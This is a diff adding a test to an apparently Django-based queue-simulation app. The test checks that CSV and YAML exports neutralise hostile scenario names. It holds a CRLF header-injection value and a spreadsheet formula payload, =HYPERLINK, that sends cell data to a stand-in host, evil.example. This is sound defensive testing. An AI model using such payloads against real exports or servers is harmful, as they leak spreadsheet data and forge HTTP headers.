@@ -262,3 +262,32 @@ def test_given_the_presets_objects_stored_then_apply_is_offered(admin_client, ad
     body = admin_client.get(reverse("playground-run", args=[run.pk])).content.decode()
 
     assert 'id="apply-blocked"' not in body and not re.search(r'id="apply-button"[^>]*disabled', body)
+
+
+def test_given_a_hostile_scenario_when_exported_then_csv_cells_are_text_and_file_names_stay_in_the_header(
+    tenant_client, tenant, no_broker
+):
+    from playground.services.scenarios import create_from_document
+
+    document = {
+        "name": 'report"\r\nX-Injected: 1',
+        "clock": {"horizon": "1h", "tick": "1m"},
+        "resourceFlavors": [{"name": "default"}],
+        "clusterQueues": [{"name": "cq", "quotas": [{"flavor": "default", "resources": {"cpu": {"nominal": 4}}}]}],
+        "localQueues": [{"name": "team-a/main", "clusterQueue": "cq"}],
+        "workloads": [
+            {"name": '=HYPERLINK("http://evil.example/?x="&A1)', "localQueue": "team-a/main", "duration": "10m",
+             "podSets": [{"count": 1, "requests": {"cpu": "1"}}]},
+        ],
+    }
+    scenario = create_from_document(document, owner=tenant)
+    run = runs.execute_run(runs.start_run(scenario, edits=["clusterQueues.cq.weight=2"], owner=tenant).pk)
+
+    csv_response = tenant_client.get(reverse("playground-run-csv", args=[run.pk]))
+    yaml_response = tenant_client.get(reverse("playground-scenario-yaml", args=[scenario.pk]))
+
+    rows = list(csv.DictReader(io.StringIO(csv_response.content.decode())))
+    assert rows[0]["workload"] == "'" + document["workloads"][0]["name"]
+    assert yaml_response.status_code == 200
+    assert yaml_response["Content-Disposition"] == 'attachment; filename="report-X-Injected-1.yaml"'
+    assert "X-Injected" not in {name for name, _ in yaml_response.items()}
